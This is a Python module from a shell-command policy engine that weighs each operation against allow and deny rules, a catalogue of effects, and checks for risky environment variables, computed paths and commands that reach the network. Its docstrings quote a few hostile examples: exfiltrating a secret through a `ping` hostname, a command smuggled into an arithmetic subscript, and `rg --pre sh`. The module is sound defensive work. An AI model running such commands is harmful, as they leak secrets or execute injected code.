"""What is said about one operation: by rules, else by the catalogue, and by the reader itself."""

from execpolicy.catalogue import Reading
from execpolicy.catalogue.reading import COMPUTED
from execpolicy.decision import Decision
from execpolicy.engine.expand import Step
from execpolicy.engine.targets import Places, matching_hosts, matching_paths, possible_paths
from execpolicy.errors import printable
from execpolicy.operation import (
    Access,
    Assign,
    Connect,
    Dynamic,
    Exec,
    Opaque,
    Operation,
    Variable,
    Word,
)
from execpolicy.rule import NetworkRule, PathRule, PrefixRule
from execpolicy.store.snapshot import Snapshot
from execpolicy.verdict import Judged, Match

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence

    from execpolicy.catalogue.reading import Cause
    from execpolicy.operation import Assignment


def judge(
    step: Step, snapshot: Snapshot, places: Places, cover: Match | None
) -> tuple[Judged, int]:
    """All matches of one step, and how many words of its argv an allow rule names (else 0).

    `cover` is an allow rule on the command around this one that names this one too; it stands in
    for the catalogue.
    """
    operation = step.operation
    if isinstance(operation, Exec) and step.reading is not None:
        return _exec(operation, step.reading, snapshot, places, cover)
    matches = tuple(_other(operation, snapshot, places))
    return Judged(operation, matches), 0


def _exec(
    operation: Exec,
    reading: Reading,
    snapshot: Snapshot,
    places: Places,
    cover: Match | None,
) -> tuple[Judged, int]:
    argv, policy = operation.argv, snapshot.policy
    spellings = _spellings(argv, reading)
    matches: list[Match] = []
    allowing: tuple[PrefixRule, ...] = ()
    if not policy.silent(spellings):
        matches += [_by_rule(r, argv) for r in policy.tightening(spellings)]
        allowing = policy.allowing(argv, spellings)
    spoken = bool(allowing or matches)
    if operation.env:
        matches.extend(_environment(operation, reading, snapshot))
    if not _LITERAL.issuperset(map(type, argv)):
        matches.extend(_possible(operation, spellings, snapshot))
    reach = 0
    if allowing:
        reach = max(len(r.pattern) for r in allowing)
        matches.extend(_by_rule(r, argv) for r in allowing)
        matches.extend(_beyond(operation, reading, snapshot, reach))
    granted = set[int]()
    for number, cause in enumerate(reading.effects):
        if cause.subject is not None:
            matches.extend(_subject(cause.subject, snapshot, places, number, granted))
    if cover is not None and not spoken:
        matches.append(cover)
    elif not spoken:
        matches += _effects(operation, reading, snapshot, granted)
    return Judged(operation, tuple(matches)), reach


_LITERAL = frozenset((str,))


def _spellings(argv: tuple[Word, ...], reading: Reading) -> "list[tuple[Word, ...]]":
    """The words as written, and all looser ways to see the same command."""
    spellings = [argv] if argv == reading.canonical else [argv, reading.canonical]
    for one in tuple(spellings):
        if one and isinstance(one[0], str) and "/" in one[0]:
            spellings.append((one[0].rpartition("/")[2], *one[1:]))
    return spellings


def _by_rule(rule: PrefixRule, argv: tuple[Word, ...]) -> Match:
    words = tuple(w if isinstance(w, str) else w.source for w in argv[: len(rule.pattern)])
    pattern = " ".join("|".join(tokens) for tokens in rule.pattern)
    why = rule.justification or f"a rule for `{pattern}` says {rule.decision.word}"
    just = rule.justification
    return Match("rule", rule.decision, why, rule.origin, words, just, about=argv)


def _possible(
    operation: Exec, spellings: "list[tuple[Word, ...]]", snapshot: Snapshot
) -> "Iterator[Match]":
    """A dynamic word never matches a token, but it may turn out to be one that a rule refuses."""
    rules = {id(r): r for r in snapshot.policy.could_tighten(spellings)}
    for rule in rules.values():
        pattern = " ".join("|".join(tokens) for tokens in rule.pattern)
        why = f"may be `{pattern}`, for which a rule says {rule.decision.word}"
        yield Match("reader", Decision.PROMPT, why, rule.origin, about=operation.argv)


def _environment(operation: Exec, reading: Reading, snapshot: Snapshot) -> "Iterator[Match]":
    """Assignments that the command receives and that may change what it does."""
    deaf = bool(operation.env) and snapshot.variables.deaf(operation.argv[0])
    for assignment in operation.env:
        if snapshot.variables.tame(assignment.name, assignment.value) or (
            assignment.name == "IFS" and operation.argv[0] == "read"
        ):
            continue  # `IFS= read`: it is only for this builtin
        if snapshot.variables.steering(assignment.name):
            why = f"`{assignment.name}` changes what programs do"
            yield Match("reader", Decision.PROMPT, why, about=operation.argv)
        elif not (deaf or snapshot.variables.harmless(assignment.name)):
            why = f"what `{assignment.name}` changes is not known"
            yield Match("reader", Decision.PROMPT, why, about=operation.argv)
        elif not deaf and _evaluated(assignment, reading):
            why = f"`{assignment.name}` may hold a command where a shell reads a number"
            yield Match("reader", Decision.PROMPT, why, about=operation.argv)


def _evaluated(assignment: "Assignment", reading: Reading) -> bool:
    """Whether arithmetic inside would run a subscript: `CI='a[$(cmd)]' sh -c 'echo $((CI))'`."""
    value = assignment.value
    if isinstance(value, str):
        return "[" in value and ("$" in value or "`" in value)
    scripts = (inner.script for inner in reading.inner)
    texts = (s if isinstance(s, str) else s.source for s in scripts if s is not None)
    return any(assignment.name in text for text in texts)


def _subject(
    subject: "Access | Connect | Variable",
    snapshot: Snapshot,
    places: Places,
    number: int,
    granted: set[int],
) -> "Iterator[Match]":
    """What path and network rules say about a file or a host that a command names.

    `number` joins those `granted` where an allow rule says that the effect may happen.
    """
    if isinstance(subject, Access):
        for rule in matching_paths(snapshot.policy.paths, subject, places):
            if rule.decision:
                yield _by_path(rule, subject)
            else:
                granted.add(number)
        if isinstance(subject.path, Dynamic):
            yield from _perhaps(snapshot, subject, places)
    elif isinstance(subject, Connect):
        for one in matching_hosts(snapshot.policy.network, subject):
            if one.decision:
                yield _by_network(one, subject)
            else:
                granted.add(number)


_RUNNING = frozenset(("execute", "privilege"))


def _beyond(operation: Exec, reading: Reading, snapshot: Snapshot, reach: int) -> "Iterator[Match]":
    """What a rule's open tail does not cover: an option that makes a program run something else.

    `rg` only reads, so a rule for it does not mean `rg --pre sh`; `make` runs recipes anyway. A
    rule that names the option means it. A script in the words that is not understood may do so
    too. Nor does it cover a word computed by a command, where that
    can carry data out: `ping $(cat secret).example.com`.
    """
    named = tuple(word for word in operation.argv[:reach] if isinstance(word, str))
    anyway = any(c.effect in _RUNNING and not c.by for c in reading.effects)
    for cause in reading.effects:
        if cause.by == COMPUTED:
            continue  # a computed word may stand where a rule leaves the tail open
        unread = cause.effect == "unknown" and cause.by[:1] not in ("", "-")
        beyond = (cause.effect in _RUNNING and cause.by) or unread
        if beyond and not anyway and not any(word.startswith(cause.by) for word in named):
            why, effects = f"{cause.effect} ({cause.why})", (cause.effect,)
            decision = snapshot.stance.decide(cause.effect)
            yield Match(
                "catalogue", decision, why, reading.origin, effects=effects, about=operation.argv
            )
    reaches = any(c.effect == "network" for c in reading.effects)
    if reaches and any(map(_from_a_command, operation.argv)):
        why = "sends what a command prints to the network"
        yield Match("reader", Decision.PROMPT, why, about=operation.argv)


def _from_a_command(word: Word) -> bool:
    """Whether the output of a command is part of a word."""
    return isinstance(word, Dynamic) and ("$(" in word.source or "`" in word.source)


def _effects(
    operation: Exec, reading: Reading, snapshot: Snapshot, granted: set[int]
) -> list[Match]:
    """One match an effect, with all its causes in words, but for what an allow rule granted."""
    causes: Sequence[Cause] = reading.effects
    if granted:
        causes = [c for number, c in enumerate(causes) if number not in granted]
    secrets = [c for c in causes if c.secret]
    if secrets:
        why = f"reads credentials ({'; '.join(dict.fromkeys(c.why for c in secrets))})"
        return [
            Match("catalogue", Decision.PROMPT, why, reading.origin, effects=("read",)),
            *_by_causes([c for c in causes if not c.secret], operation, reading, snapshot),
        ]
    return _by_causes(causes, operation, reading, snapshot)


def _by_causes(
    causes: "Sequence[Cause]", operation: Exec, reading: Reading, snapshot: Snapshot
) -> list[Match]:
    if len(causes) == 1:
        return [_by_effect(causes[0].effect, causes[0].why, operation, reading, snapshot)]
    said: dict[str, list[str]] = {}
    for cause in causes:
        said.setdefault(cause.effect, []).append(cause.why)
    return [
        _by_effect(
            effect, "; ".join(dict.fromkeys(filter(None, whys))), operation, reading, snapshot
        )
        for effect, whys in said.items()
    ]


def _by_effect(
    effect: str, words: str, operation: Exec, reading: Reading, snapshot: Snapshot
) -> Match:
    why = f"{effect} ({words})" if words else effect
    decision, argv = snapshot.stance.decide(effect), operation.argv
    return Match("catalogue", decision, why, reading.origin, (), None, (effect,), None, argv)


def _by_path(rule: PathRule, subject: Access) -> Match:
    path = subject.path if isinstance(subject.path, str) else subject.path.source
    why = rule.justification or f"a rule for this path says {rule.decision.word}"
    shown = f"{subject.mode} `{printable(path, 60)}`: {why}"
    return Match("rule", rule.decision, shown, rule.origin, (), rule.justification)


def _perhaps(snapshot: Snapshot, subject: Access, places: Places) -> "Iterator[Match]":
    """A path of which the end is computed may be one that a rule refuses."""
    for rule in possible_paths(snapshot.policy.paths, subject, places):
        path = subject.path if isinstance(subject.path, str) else subject.path.source
        why = f"may be a path for which a rule says {rule.decision.word}"
        shown = f"{subject.mode} `{printable(path, 60)}`: {why}"
        yield Match("reader", Decision.PROMPT, shown, rule.origin)


def _by_network(rule: NetworkRule, subject: Connect) -> Match:
    why = rule.justification or f"a rule for this host says {rule.decision.word}"
    shown = f"connect to `{rule.host}`: {why}"
    return Match("rule", rule.decision, shown, rule.origin, (), rule.justification)


def _other(operation: Operation, snapshot: Snapshot, places: Places) -> "Iterator[Match]":
    """Matches of an operation that is no command."""
    if isinstance(operation, Opaque):
        why = f"`{printable(operation.text, 60)}`: {operation.why}"
        yield Match("reader", Decision.PROMPT, why)
    elif isinstance(operation, Assign):
        name = operation.assignment.name
        if snapshot.variables.tame(name, operation.assignment.value):
            return
        if snapshot.variables.steering(name):
            yield Match("reader", Decision.PROMPT, f"`{name}` changes what programs do")
        elif operation.assignment.exported and not snapshot.variables.harmless(name):
            yield Match("reader", Decision.PROMPT, f"what exporting `{name}` changes is not known")
    elif isinstance(operation, Access):
        paths = matching_paths(snapshot.policy.paths, operation, places)
        yield from (_by_path(r, operation) for r in paths)
        yield from _perhaps(snapshot, operation, places)
        if not paths:
            path = operation.path if isinstance(operation.path, str) else operation.path.source
            effect = "destroy" if operation.mode == "remove" else operation.mode
            decision = snapshot.stance.decide(effect)
            yield Match("catalogue", decision, f"{operation.mode}s `{printable(path, 60)}`")
    elif isinstance(operation, Connect):
        hosts = matching_hosts(snapshot.policy.network, operation)
        yield from (_by_network(r, operation) for r in hosts)
        if not hosts:
            host = operation.host if isinstance(operation.host, str) else operation.host.source
            decision = snapshot.stance.decide("network")
            yield Match("catalogue", decision, f"connects to `{printable(host, 60)}`")
